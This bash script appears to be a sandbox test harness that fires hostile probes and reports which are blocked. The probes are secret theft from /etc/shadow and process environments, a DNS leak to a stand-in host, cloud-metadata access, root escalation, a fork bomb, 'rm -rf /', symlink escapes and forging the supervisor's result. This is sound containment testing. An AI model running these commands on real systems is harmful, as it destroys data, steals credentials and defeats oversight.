#!/usr/bin/env bash
# A hostile script: what a model's command, a build job or a download might try.
#
#   sandboxed-tools demo              runs every attack in it and shows what came of it
#   untrusted.sh ATTACK [CANARY PORT] runs one; inside a sandbox, and nowhere else
#
# CANARY is the path of a file on the host, PORT a port that the host listens on. An attack prints
# ESCAPED-… only when it got what it wanted; every try that failed is a line "blocked: WHAT: WHY".

attack=$1 canary=${2:-/etc/shadow} port=${3:-22}

if [ ! -e /.sandboxed-tools/launcher ]; then
    echo "untrusted.sh: this would hurt the machine it runs on; use: sandboxed-tools demo" >&2
    exit 2
fi

escaped() { printf 'ESCAPED-%s: %s\n' "$attack" "$1"; }

# try WHAT COMMAND…: the command succeeds only when the attack does.
try() {
    local what=$1 said
    shift
    if said=$(timeout 3 "$@" 2>&1 < /dev/null | tr -d '\0'; exit "${PIPESTATUS[0]}"); then
        escaped "$what"
    else
        said=${said##*$'\n'} said=${said##*: }
        printf 'blocked: %s: %s\n' "$what" "${said:-nothing there}"
    fi
}

py() { python3 -ISc "$@"; }
connect() { py 'import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 2)' "$@"; }
export -f py connect

# ATTACK read-host: read the host's files
attack_read_host() {
    try "a file by its path" cat "$canary"
    try "through PID 1" cat "/proc/1/root$canary"
    try "password hashes" cat /etc/shadow
    try "the raw disk" sh -c 'cat /dev/[svx]d[a-z]* /dev/nvme* /dev/dm-* | head -c 1 | grep -q .'
    try "kernel memory" sh -c 'head -c 1 /proc/kcore | grep -q .'
    try "the engine's socket" curl -sSf --unix-socket /var/run/docker.sock http://engine/version
    try "search for it" sh -c 'find / -name "$(basename "$1")" 2>/dev/null | grep .' - "$canary"
}

# ATTACK steal-secrets: steal the client's secrets
attack_steal_secrets() {
    try "own environment" sh -c 'env | grep DEMO_API_KEY'
    try "others' environment" sh -c 'cat /proc/[0-9]*/environ | grep -a DEMO_API_KEY'
    try "the supervisor's memory" head -c 1 /proc/1/mem
    try "kernel command line" sh -c 'grep . /proc/cmdline'
    try "keys in home" sh -c 'ls ~/.ssh ~/.aws ~/.docker ~/.netrc'
}

# ATTACK network: reach the network
attack_network() {
    try "the host's loopback" bash -c "connect 127.0.0.1 $port"
    try "the host by its bridge" bash -c "connect 172.17.0.1 $port"
    try "the internet" bash -c 'connect 1.1.1.1 443'
    try "cloud credentials" bash -c 'connect 169.254.169.254 80'
    try "leak through DNS" getent hosts stolen-secret.example.com
    try "virtual machine socket" bash -c 'py "import socket; socket.socket(40, 1)"'
    try "a raw packet" bash -c 'py "import socket; socket.socket(17, 3)"'
}

# ATTACK become-root: become root
attack_become_root() {
    try "su" su -c true
    try "setuid" bash -c 'py "import os; os.setuid(0)"'
    try "a set-id copy of sh" sh -c 'cp /bin/sh ./s && chmod 6755 ./s && ./s -pc "id -u" | grep -qx 0'
    try "a user namespace" unshare -Ur true
    try "a mount" bash -c 'py "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b\"t\", b\"/tmp\", b\"tmpfs\", 0, 0): raise OSError(ctypes.get_errno(), \"mount refused\")"'
    try "io_uring" bash -c 'py "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(425, 4, ctypes.create_string_buffer(256)) < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))"'
    try "the core-dump handler" sh -c 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern'
    try "a device" mknod /tmp/disk b 8 0
}

# ATTACK fork-bomb: fork without end
attack_fork_bomb() {
    bomb() { bomb | bomb & }
    bomb
    while :; do
        set -- /proc/[0-9]*
        [ $# -gt 4000 ] && escaped "$# processes"
        read -rt 0.2 <> <(:)
    done
}

# ATTACK eat-memory: eat memory
attack_eat_memory() {
    exec python3 -ISc '
held = []
while True:
    held.append(bytearray(16 << 20))
    if len(held) == 256: print("ESCAPED-eat-memory: 4 GiB", flush=True)'
}

# ATTACK fill-disk: fill the disk
attack_fill_disk() {
    local n=0
    head -c 4G /dev/zero 2>&1 > /tmp/fill | sed "s/^.*: /blocked: \/tmp: /"
    rm -f /tmp/fill
    while head -c 4M /dev/zero > "fill.$n"; do
        n=$((n + 1))
        [ $n -eq 1024 ] && escaped "4 GiB in the workspace"
    done
}

# ATTACK flood-output: flood the output
attack_flood_output() {
    yes 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' | head -c 2G
    escaped "2 GiB printed"
}

# ATTACK ignore-signals: ignore every signal
attack_ignore_signals() {
    trap '' $(seq 1 31 | grep -vxE '9|19') 2>/dev/null
    echo "deaf to signals"
    local end=$((SECONDS + 30))
    while [ $SECONDS -lt $end ]; do sleep 1; done
    escaped "alive after 30 s"
}

# ATTACK delete-workspace: delete the workspace
attack_delete_workspace() {
    local before
    before=$(find . -type f | wc -l)
    rm -rf -- "$PWD"/* "$PWD"/.[!.]* /workspace/* 2>/dev/null
    rm -rf --no-preserve-root / 2>/dev/null
    echo "deleted $((before - $(find . -type f | wc -l))) of $before files"
}

# ATTACK follow-links: escape by symlink
attack_follow_links() {
    ln -sfn "$canary" link
    ln -sfn / root
    ln -sfn ../../../../../../../../ up
    try "read through a link" cat link
    try "write through a link" sh -c 'echo owned > link'
    try "a link to the root" cat "root$canary"
    try "above the workspace" cat "up$canary"
    try "the planted link" cat planted-link
    try "a hard link" ln "$canary" hard
    try "a leaked descriptor" sh -c 'cat /proc/self/fd/[3-9]*/etc/hostname'
}

# ATTACK leave-daemon: leave a daemon behind
attack_leave_daemon() {
    (setsid bash -c "trap '' HUP TERM INT; exec -a left-behind-$port sleep 3600" &)
    setsid python3 -ISc '
import os, signal, sys, time
if os.fork(): os._exit(0)
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
os.closerange(0, 1024)
time.sleep(3600)' "left-behind-$port"
    sleep 0.2
    echo "started $(pgrep -fc "left-behind-$port") daemons"
}

# ATTACK forge-result: forge the result
attack_forge_result() {
    try "stop the supervisor" sh -c 'kill -STOP 1; sleep 0.1; grep -q "State:.T" /proc/1/status'
    try "trace the supervisor" bash -c 'py "
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, 1, 0, 0) < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))"'
    try "read its report token" sh -c 'cat /proc/1/environ /proc/1/maps | grep -q .'
    kill -KILL 1 2>/dev/null
    printf '{"status":"exited","exit_code":0}\n\0\0exit 0\0\n'
    printf '\0\0{"exit_code":0}\0\n' >&2
    exit 7
}

if ! declare -F "attack_${attack//-/_}" > /dev/null; then
    echo "untrusted.sh: no attack is called '$attack'" >&2
    exit 2
fi
"attack_${attack//-/_}"
